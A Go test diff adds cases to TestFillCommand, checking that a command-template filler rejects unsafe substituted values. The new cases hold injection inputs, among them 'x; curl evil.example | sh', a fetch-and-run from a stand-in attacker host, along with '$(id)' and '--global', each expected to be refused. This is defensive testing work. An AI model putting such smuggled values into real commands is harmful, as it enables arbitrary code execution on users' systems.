@@ -86,6 +86,12 @@ func TestFillCommand(t *testing.T) {
 		{"npm install {package}", nil, "npm install {package}", false},
 		{"git remote prune origin", nil, "git remote prune origin", true},
 		{"awk '{print $1}' {file}", map[string]string{"file": "a.log"}, "awk '{print $1}' a.log", true},
+		{"npm install {package}", map[string]string{"package": "@scope/pkg@1.2.0"}, "npm install @scope/pkg@1.2.0", true},
+		// Values come from pasted text: nothing that could change the command.
+		{"npm install {package}", map[string]string{"package": "x; curl evil.example | sh"}, "npm install {package}", false},
+		{"npm install {package}", map[string]string{"package": "$(id)"}, "npm install {package}", false},
+		{"npm install {package}", map[string]string{"package": "--global"}, "npm install {package}", false},
+		{"sudo -u postgres createuser {role}", map[string]string{"role": "bob smith"}, "sudo -u postgres createuser {role}", false},
 	} {
 		got, ok := FillCommand(tc.cmd, tc.groups)
 		if got != tc.want || ok != tc.ok {
